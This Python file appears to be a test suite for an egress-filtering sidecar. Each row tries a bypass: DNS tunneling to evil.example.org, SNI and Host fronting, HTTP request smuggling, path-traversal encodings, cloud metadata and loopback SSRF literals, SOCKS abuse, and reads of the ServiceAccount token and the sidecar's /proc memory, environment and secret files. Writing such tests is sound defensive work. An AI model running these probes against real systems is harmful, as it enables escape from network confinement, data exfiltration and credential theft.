"""The rows, in the order of the tables; each attack has its honest twin among them."""

import os
import socket
import time

import wire
from agent import *  # noqa: F403
from agent import both, datagram, dial, dns, fetch, get, handshake, head, lookup, proxy, requests, row, rows_of, speak, tls, tunnel
from agent import ENTRANCES, EVIL, INET, LOOPBACK, METADATA, PRIVATE, RANGE, RESOLVER, SERVER, V6, Denied

HTTP = ("transparent", "proxy")
OTHER_RESOLVER = EVIL  # the world answers DNS there too


def question(name, kind=wire.A, **options):
    return wire.query(wire.question(name, kind, **options))


def stripped(kind):
    """Row 11: no ech and no hints in what comes back."""
    rcode, records = wire.parse(wire.ask(RESOLVER, question("api.example.net", kind)))
    bad = [data for type_, data in records if type_ == kind and (b"ech!" in data or b"\x00\x04\x00\x04" in data)]
    if bad:
        return f"LEAK {bad}"
    raise Denied(f"{rcode}, {len(records)} records, stripped")


# D.1 DNS
row("0", "an allowed name resolves", "reached", lambda: lookup("api.example.net"))
row("0a", "over TCP too", "reached", lambda: lookup("api.example.net", tcp=True))
for name in ("loop", "private", "meta", "mixed", "chain-private"):
    row("1", f"{name}: an allowed name with a refused address", "denied", lambda name=name: lookup(f"{name}.example.net"), "address")
for name in ("mapped", "compatible", "nat64", "sixtofour", "teredo"):
    row("19", f"{name}: an allowed name with an embedded private address", "denied", lambda name=name: lookup(f"{name}.example.net", wire.AAAA), "address", families=(6,))
for name in ("carrier", "benchmark", "reserved"):
    row("22", f"{name}: an allowed name with a special address", "denied", lambda name=name: lookup(f"{name}.example.net", wire.A), "address", families=(4,))
for name in ("multicast", "unspecified"):
    row("22", f"{name}: an allowed name with a special address", "denied", lambda name=name: lookup(f"{name}.example.net"), "address")
row("4", "a CNAME chain to an allowed address", "reached", lambda: lookup("chain.example.net"))
row("4a", "a CNAME that goes in a circle", "denied", lambda: lookup("chain-loop.example.net"))
for kind in (wire.TXT, wire.NULL, wire.ANY, wire.AXFR):
    row("5", f"type {kind} of an allowed name", "denied", lambda kind=kind: lookup("api.example.net", kind), "record-type")
row("6", "a long label full of data under a wildcard", "denied", lambda: lookup("mzxw6ytboi4tsmzxw6ytboi4tsmzxw6ytboi4tsmzxw6ytboi4ts.wild.example.net"), "limit")
row("6a", "an honest name under the wildcard", "reached", lambda: lookup("eu-west-1.wild.example.net"))
row("7", "data in a question for an unlisted name", "denied", lambda: lookup("c2VjcmV0.evil.example.org"), "host")
row("8", "another resolver, UDP: ours answers, by our policy", "denied", lambda: lookup("evil.example.org", server=OTHER_RESOLVER), "host")
row("8a", "another resolver, TCP", "denied", lambda: lookup("tcp.evil.example.org", server=OTHER_RESOLVER, tcp=True), "host")
row("8b", "another resolver still gives what is allowed", "reached", lambda: lookup("api.example.net", server=OTHER_RESOLVER))
row("9", "DNS over TLS", "denied", lambda: tls("transparent", EVIL, 853, [b"evil.example.org"]), "host")
row("9a", "DNS over QUIC", "denied", lambda: datagram(EVIL, 853))
row("10", "DNS over HTTPS by address", "denied", lambda: tls("transparent", EVIL, 443, []), "address")
row("10a", "DNS over HTTPS by a name that isn't listed", "denied", lambda: tls("transparent", EVIL, 443, [b"dns.google"]), "host")
row("11", "HTTPS records without ech and hints", "denied", lambda: stripped(wire.HTTPS))
row("12", "0x20 and a trailing dot", "reached", lambda: lookup("aPi.ExAmPlE.nEt."))
row("13", "search-suffix expansion gets a quick no", "denied", lambda: lookup("api.example.net.lab-egress.svc.cluster.local"))
row("14", "mDNS", "denied", lambda: datagram("ff02::fb%lo" if V6 else "224.0.0.251", 5353))
row("15", "two questions", "denied", lambda: dns(wire.query(wire.question("api.example.net", 1), wire.question("evil.example.org", 1))))
row("15a", "a compression loop", "denied", lambda: dns(wire.query(b"\xc0\x0c\0\x01\0\x01")))
row("15b", "half a header is dropped", "hang", lambda: dns(b"\x12\x34\x01"))
row("15c", "class CHAOS", "denied", lambda: dns(wire.query(wire.question("api.example.net", 1, klass=3))))
row("15d", "opcode UPDATE", "denied", lambda: dns(wire.query(wire.question("api.example.net", 1), flags=0x2800)))
row("17", "a reverse lookup", "denied", lambda: lookup("11.10.9.5.in-addr.arpa", wire.PTR), "record-type")

# D.2 and D.3, addresses
for entrance in ("connect", "socks"):
    for literal in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1.", "0x7f.1"):
        row(f"18 {entrance}", f"`{literal}`", "denied", lambda entrance=entrance, literal=literal: tls(entrance, literal, 443, [b"api.example.net"]), families=(4,))
for literal in ("::ffff:10.1.2.3", "::10.1.2.3", "64:ff9b::a01:203", "2002:a01:203::1", "2001:0:a01:203::1", "::", "::1", "fe80::1", "ff02::1"):
    row("19 connect", f"`[{literal}]`", "denied", lambda literal=literal: tls("connect", literal, 443, []), "address", families=(6,))
for literal in ("0.0.0.0", "127.0.0.1", "10.1.2.3", "100.64.0.1", "198.18.0.1", "192.0.0.192", "240.0.0.1", "255.255.255.255", "224.0.0.1"):
    row("22 connect", f"`{literal}`", "denied", lambda literal=literal: tls("connect", literal, 443, []), "address", families=(4,))
for number, target in (("20", "an unlisted port of the range's address"),):
    rows_of(number, target, "denied", lambda entrance: tls(entrance, RANGE, 443, []), "port")
rows_of("20a", "an unlisted address", "denied", lambda entrance: tls(entrance, EVIL, 443, []), "address")
rows_of("20b", "an address that a range lists, any protocol, server first", "reached", lambda entrance: speak(tunnel(entrance, RANGE, 2222), b"hello"))
row("21", "a zone id", "denied", lambda: requests("proxy", "", b"CONNECT [fe80::1%25lo]:443 HTTP/1.1\r\nHost: [fe80::1%25lo]:443\r\n\r\n"), "malformed", families=(6,))
for target in ("2a01:4f8:10::11:443", "[api.example.net]:443", "[[::1]]:443", "api.example.net:443:443", "\uff41pi.example.net:443"):
    row("23", f"CONNECT {ascii(target)}", "denied", lambda target=target: requests("proxy", "", f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()), "malformed", families=(4,))
row("25", "metadata, redirected", "denied", lambda: both("transparent", "/latest/meta-data/", bracketed(METADATA)), "address")
row("25a", "metadata, by the proxy", "denied", lambda: both("proxy", "/latest/meta-data/", bracketed(METADATA)), "address")
row("25b", "metadata, any other port", "denied", lambda: speak(dial(METADATA, 8080), b"x" * 9), "address")
for address in ("169.254.170.2", "169.254.170.23", "168.63.129.16", "100.100.100.200", "192.0.0.192"):
    row("26", f"metadata of another kind, {address}", "denied", lambda address=address: requests("proxy", "", get("/", address, absolute=True)), "address", families=(4,))
for name in ("metadata.google.internal", "metadata"):
    row("28", f"`{name}`", "denied", lambda name=name: requests("proxy", "", get("/", name, absolute=True)), "host")

# D.4 CONNECT and TLS
rows_of("30", "an honest handshake", "reached", lambda entrance: tls(entrance, "api.example.net", 443))
row("30a", "HTTPS by a whole client", "reached", lambda: fetch("api.example.net"))
rows_of("31", "the server name is another", "denied", lambda entrance: tls(entrance, "api.example.net", 443, [b"slow.example.net"]), "name", entrances=("connect", "socks"))
rows_of("31a", "the server name is one that no rule lists", "denied", lambda entrance: tls(entrance, "api.example.net", 443, [b"evil.example.org"]))
rows_of("31b", "the hello after a HelloRetryRequest names another host", "denied", lambda entrance: twice(entrance, b"evil.example.org"), "name")
rows_of("31c", "and comes before it was asked for", "denied", lambda entrance: twice(entrance, b"evil.example.org", ahead=True), "name")
rows_of("31d", "an honest second hello", "reached", lambda entrance: twice(entrance, b"api.example.net"))
rows_of("32", "no server name", "denied", lambda entrance: tls(entrance, "api.example.net", 443, []))
rows_of("33", "SSH on a tls rule", "denied", lambda entrance: speak(tunnel(entrance, "api.example.net", 443), b"SSH-2.0-evil\r\n"), "protocol")
for port in (22, 25, 6443, 8443):
    rows_of("34", f"port {port} of an allowed host", "denied", lambda entrance, port=port: speak(tunnel(entrance, "api.example.net", port), b"x" * 9))
rows_of("35", "a hello byte by byte", "reached", lambda entrance: tls(entrance, "api.example.net", 443, slow=0.002))
rows_of("35a", "a hello in records of 16 bytes", "reached", lambda entrance: tls(entrance, "api.example.net", 443, change=lambda data: wire.in_records(data, 16)))
rows_of("35b", "the name hidden behind a record boundary", "denied", lambda entrance: tls(entrance, "api.example.net", 443, [b"evil.example.org"], change=lambda data: wire.in_records(data, 50)))
rows_of("36", "a hello larger than a segment", "reached", lambda entrance: tls(entrance, "api.example.net", 443, padding=3000))
for names, title in (([b"api.example.net", b"evil.example.org"], "two names"), ([b""], "an empty name"), ([b"api.example.net\0.evil"], "a NUL"), ([b"5.9.10.11"], "an address")):
    rows_of("37", f"server name with {title}", "denied", lambda entrance, names=names: tls(entrance, "api.example.net", 443, names))
rows_of("38", "GREASE ECH", "reached", lambda entrance: tls(entrance, "api.example.net", 443, more=wire.GREASE_ECH))
row("40", "an allowed server name to an address that is not its", "denied", lambda: handshake(dial(EVIL, 443), wire.hello([b"api.example.net"])), "name")
row("41", "fronting inside a terminated tunnel", "denied", lambda: terminated("api.example.net"), "name")
row("41a", "a path inside a terminated tunnel that is not listed", "denied", lambda: terminated("inside.example.net", "/closed"), "path")
if os.environ.get("UPSTREAM_CA") == "none":
    row("41b", "an allowed request inside, of a server whose certificate nobody vouches for", "denied", lambda: terminated("inside.example.net"), "upstream")
else:
    row("41b", "an allowed request inside", "reached", lambda: terminated("inside.example.net"))
rows_of("42", "SOCKS inside a tunnel", "denied", lambda entrance: speak(tunnel(entrance, "api.example.net", 443), b"\x05\x01\0"), "protocol")
rows_of("42a", "CONNECT inside a tunnel", "denied", lambda entrance: answered(tunnel(entrance, "api.example.net", 443), b"CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n"))
rows_of("43", "an SSLv2 hello", "denied", lambda entrance: handshake(tunnel(entrance, "api.example.net", 443), wire.SSLV2))
rows_of("43a", "TLS 1.0 alone", "denied", lambda entrance: tls(entrance, "api.example.net", 443, modern=False))
rows_of("44", "a server that speaks first, by a tcp rule", "reached", lambda entrance: first(tunnel(entrance, "db.example.net", 5432)))
rows_of("45", "a hello that comes with the request", "reached", lambda entrance: early(entrance, b"api.example.net"))
rows_of("45a", "and one for another name", "denied", lambda entrance: early(entrance, b"evil.example.org"))
for name in (b"api.example.net\0", b"\0", b"api.example.net\0.evil.example.org", b"127.0.0.1", b"5.9.10.11"):
    row("46", f"SOCKS name {name!r}", "denied", lambda name=name: socks_name(name), families=(4,))
row("46a", "SOCKS4", "denied", lambda: socks4(), families=(4,))
row("46b", "SOCKS5 BIND and UDP ASSOCIATE", "denied", lambda: [socks_command(command) for command in (2, 3)], families=(4,))


def terminated(host, path="/open/a"):
    """Through the TLS that the sidecar ends, with its certificate; the request names `host`."""
    import ssl

    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(dial("inside.example.net", 443), server_hostname="inside.example.net") as client:
        client.sendall(get(path, host))
        answer = head(client)
        if not answer.startswith(b"HTTP/1.1 200"):
            raise Denied(status(answer, client))
        return answer.partition(b"\r\n\r\n")[2]


def twice(entrance, name, ahead=False):
    """A hello without a key share, and once the server has asked for another, one for `name`."""
    seed = os.urandom(64)
    hello = lambda name, **options: wire.hello([name], seed=seed, **options)  # noqa: E731
    with tunnel(entrance, "api.example.net", 443) as client:
        client.sendall(hello(b"api.example.net", share=False) + (hello(name) if ahead else b""))
        answers = wire.messages(client)
        kind, message = next(answers)
        if kind != b"\x16" or wire.RETRY not in message:
            return f"no HelloRetryRequest but {kind!r} {message[:40]!r}: nothing was tried"
        if not ahead:
            client.sendall(hello(name))
        kind, message = next(answers)
        if kind != b"\x16":
            raise Denied(f"alert {message[1]}" if kind == b"\x15" else "closed")
        return "ServerHello"


def written(entrance, path):
    """A request whose path arrives as it was written."""
    answer = both(entrance, path, "plain.example.net")
    if answer != f"this is {path}\n":
        raise Denied(f"changed: {answer!r}")
    return answer


def answered(client, data):
    answer = speak(client, data)
    if answer.startswith(b"HTTP/1.1 200"):
        return "200"
    raise Denied(f"{answer[:40]!r}")


def first(client):
    """What the server says before the client does."""
    answer = client.recv(100)
    if not answer:
        raise Denied("closed")
    return answer


def early(entrance, name):
    client = tunnel(entrance, "api.example.net", 443, wire.hello([name]))
    answer = client.recv(65536)
    if not answer or answer[0] == 21:
        raise Denied(f"{answer[:7]!r}")
    return "ServerHello"


def socks_name(name):
    client = proxy(b"\x05\x01\0")
    client.recv(2)
    client.sendall(b"\x05\x01\0\x03" + bytes([len(name)]) + name + b"\x01\xbb")
    reply = client.recv(10)
    if len(reply) < 2 or reply[1]:
        raise Denied(f"SOCKS {reply!r}")
    return handshake(client, wire.hello([b"api.example.net"]))


def socks4():
    answer = speak(proxy(b""), b"\x04\x01\x01\xbb\x05\x09\x0a\x0b\0")
    if answer[1] != 90:
        raise Denied(f"SOCKS4 {answer[1]}")
    return answer


def socks_command(command):
    client = proxy(b"\x05\x01\0")
    client.recv(2)
    client.sendall(b"\x05" + bytes([command]) + b"\0\x01\x05\x09\x0a\x0b\x01\xbb")
    reply = client.recv(10)
    if len(reply) > 1 and reply[1]:
        raise Denied(f"SOCKS {reply[1]}")
    return reply


# D.5 HTTP
rows_of("46c", "an honest request", "reached", lambda entrance: both(entrance, "/open/a", "web.example.net"), entrances=HTTP)
rows_of("47", "absolute target and Host differ", "denied", lambda entrance: requests(entrance, "web.example.net", b"GET http://web.example.net/open/a HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), entrances=HTTP)
rows_of("48", "two Hosts", "denied", lambda entrance: both(entrance, "/open/a", "web.example.net", more="Host: evil.example.org\r\n"), "malformed", entrances=HTTP)
for more, title in (
    ("Content-Length: 3\r\nTransfer-Encoding: chunked\r\n", "two framings"),
    ("Content-Length: 3\r\nContent-Length: 4\r\n", "two lengths"),
    ("Transfer-Encoding: xchunked\r\n", "an unknown coding"),
    ("Transfer-Encoding : chunked\r\n", "a blank before the colon"),
    ("X: a\r\n b\r\n", "a folded line"),
    ("X: a\nY: b\r\n", "a bare line feed"),
):
    rows_of("49", title, "denied", lambda entrance, more=more: both(entrance, "/open/a", "web.example.net", method="POST", more=more), "malformed", entrances=HTTP)
rows_of("50", "the second request goes elsewhere", "denied", lambda entrance: requests(entrance, "web.example.net", get("/open/a", "web.example.net", entrance == "proxy"), get("/", "evil.example.org", entrance == "proxy")), entrances=HTTP)
rows_of("50a", "the second request has another path", "denied", lambda entrance: requests(entrance, "web.example.net", get("/open/a", "web.example.net", entrance == "proxy"), get("/closed", "web.example.net", entrance == "proxy")), "path", entrances=HTTP)
rows_of("50b", "an honest second request", "reached", lambda entrance: requests(entrance, "web.example.net", get("/open/a", "web.example.net", entrance == "proxy"), get("/open/b", "web.example.net", entrance == "proxy")), entrances=HTTP)
rows_of("51", "an upgrade to h2c, beside another", "denied", lambda entrance: both(entrance, "/open/a", "web.example.net", more="Connection: Upgrade\r\nUpgrade: h2c, TLS/1.0\r\n"), "protocol", entrances=HTTP)
rows_of("51b", "an offer of h2c, which is ignored", "reached", lambda entrance: both(entrance, "/open/a", "web.example.net", more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"), entrances=HTTP)
rows_of("51a", "an upgrade to WebSocket without a rule", "denied", lambda entrance: both(entrance, "/open/a", "web.example.net", more="Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"), "protocol", entrances=HTTP)
for method in ("TRACE", "TRACK", "BREW"):
    rows_of("52", method, "denied", lambda entrance, method=method: both(entrance, "/open/a", "plain.example.net", method=method), "method", entrances=HTTP)
rows_of("52a", "DELETE, which the rule doesn't list", "denied", lambda entrance: both(entrance, "/open/a", "web.example.net", method="DELETE"), "method", entrances=HTTP)
row("53", "userinfo", "denied", lambda: requests("proxy", "", b"GET http://web.example.net@evil.example.org/open/a HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"), "malformed")
for path in ("/open/../closed", "/open/%2e%2e/closed", "/open/..%2fclosed", "/open/%252e%252e/closed", "/open\\..\\closed", "/open/..;/closed", "/closed", "//open/a"):
    rows_of("54", path, "denied", lambda entrance, path=path: both(entrance, path, "web.example.net"), entrances=HTTP)
for path in ("/open/..%2fclosed", "/open/a%2Fb", "/open//a", "/open/a;b", "/open/100%25"):
    rows_of("54a", f"{path}, which servers read in several ways", "denied", lambda entrance, path=path: both(entrance, path, "web.example.net"), "path", entrances=HTTP)
for path in ("/@scope%2fname", "/api/v4/projects/a%2Fb", "//a", "/a;v=1", "/100%25"):
    rows_of("54b", f"{path}, by a rule without paths", "reached", lambda entrance, path=path: written(entrance, path), entrances=HTTP)
for path in ("/a%00", "//a#b"):
    rows_of("54c", f"{path}, which is no path", "denied", lambda entrance, path=path: both(entrance, path, "plain.example.net"), "malformed", entrances=HTTP)
row("54d", "an ambiguous path inside a terminated tunnel", "denied", lambda: terminated("inside.example.net", "/open/a%2Fb"), "path")
for host in ("web.example.net.evil.example.org", "evil-web.example.net", "xweb.example.net", "web.example.net\u3002evil.example.org", "web_.example.net", "web.example.com"):
    row("57", f"Host {ascii(host)}", "denied", lambda host=host: requests("proxy", "", f"GET http://{host}/open/a HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))
row("55", "upper case and a trailing dot are the same name", "reached", lambda: requests("proxy", "", b"GET http://WEB.example.NET./open/a HTTP/1.1\r\nHost: WEB.example.NET.\r\n\r\n"))
row("58", "a head of a megabyte", "denied", lambda: both("proxy", "/open/a", "web.example.net", more="X-Bomb: " + "x" * 1_000_000 + "\r\n"), "malformed")
row("58a", "ten thousand fields", "denied", lambda: both("proxy", "/open/a", "web.example.net", more="X: y\r\n" * 10_000), "malformed")
row("59", "HTTP/2 in the clear", "denied", lambda: speak(dial("web.example.net", 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))

# D.6 beside TCP and HTTP
row("63", "QUIC", "denied", lambda: datagram(EVIL, 443))
row("63a", "QUIC to an allowed host", "denied", lambda: datagram(SERVER, 443))
row("63b", "any other UDP", "denied", lambda: datagram(EVIL, 9999))


def ping():
    kind, protocol = (128, socket.IPPROTO_ICMPV6) if V6 else (8, socket.IPPROTO_ICMP)
    with socket.socket(INET, socket.SOCK_DGRAM, protocol) as client:
        client.settimeout(3)
        client.connect((EVIL, 0))
        client.send(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + b"payload")
        return client.recv(100)


def raw():
    with socket.socket(INET, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if V6 else socket.IPPROTO_ICMP):
        return "a raw socket"


def stream_of(protocol):
    with socket.socket(INET, socket.SOCK_STREAM, protocol) as client:
        client.settimeout(3)
        client.connect((EVIL, 443))
        return "connected"


def multipath():
    with socket.socket(INET, socket.SOCK_STREAM, 262) as client:
        client.settimeout(3)
        client.connect((EVIL, 443))
        return handshake(client, wire.hello([b"evil.example.org"]))


def marked():
    with socket.socket(INET, socket.SOCK_STREAM) as client:
        client.setsockopt(socket.SOL_SOCKET, 36, 0x50)
        return "marked"


def fragment():
    """A datagram larger than the link takes."""
    return datagram(EVIL, 9999, b"x" * 4000)


def closed(port, address=LOOPBACK):
    with socket.create_connection((address, port), 3) as client:
        client.settimeout(3)
        return speak(client, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")


def own_address():
    """The pod's own address, which routes tell."""
    with socket.socket(INET, socket.SOCK_DGRAM) as client:
        client.connect((SERVER, 9))
        return client.getsockname()[0]


def refused_by_admin(address):
    """The admin port answers nobody in the pod: not the kernel, and not the sidecar when it is redirected there."""
    answer = closed(15090, address)
    if b"pinfold_" in answer:
        return f"LEAK {answer[:60]!r}"
    raise Denied(f"{answer[:60]!r}")


def read(path):
    with open(path, "rb") as file:
        return file.read(100)


row("64", "ICMP echo", "denied", ping)
row("65", "a raw socket", "denied", raw)
row("65a", "a packet socket", "denied", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300), families=(4,))
row("66", "MPTCP is TCP", "denied", lambda: multipath())
for name, protocol in (("SCTP", 132), ("DCCP", 33)):
    row("66", name, "denied", lambda protocol=protocol: stream_of(protocol))
row("68", "a fragmented datagram", "denied", fragment)
row("69", "the admin port by loopback", "denied", lambda: refused_by_admin(LOOPBACK))
row("69a", "the admin port by the pod's own address", "denied", lambda: refused_by_admin(own_address()))
row("69b", "the admin port by the proxy", "denied", lambda: requests("proxy", "", get("/metrics", f"{bracketed(LOOPBACK)}:15090", absolute=True)), "address")
row("69c", "the transparent port itself", "denied", lambda: closed(15001))
row("70", "another container's loopback port", "denied", lambda: closed(18080))
row("72", "another UID", "denied", lambda: __import__("os").setuid(64646), families=(4,))
row("80", "a mark", "denied", marked)


def sidecar_process():
    """The sidecar's pid, where its process can be seen."""
    import os

    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if b"pinfold-sidecar" in read(f"/proc/{pid}/cmdline") and pid != str(os.getpid()):
                return pid
        except OSError:
            pass
    raise Denied("no such process to be seen")


row("76", "the sidecar's environment", "denied", lambda: read(f"/proc/{sidecar_process()}/environ"), families=(4,))
row("76a", "the sidecar's memory", "denied", lambda: read(f"/proc/{sidecar_process()}/mem"), families=(4,))
row("82", "a ServiceAccount token", "denied", lambda: read("/var/run/secrets/kubernetes.io/serviceaccount/token"), families=(4,))
for path in ("/var/run/pinfold/secrets", "/etc/pinfold/policy/policy.json", "/var/lib/pinfold/audit"):
    row("76b", f"the sidecar's files: {path}", "denied", lambda path=path: read(path), families=(4,))
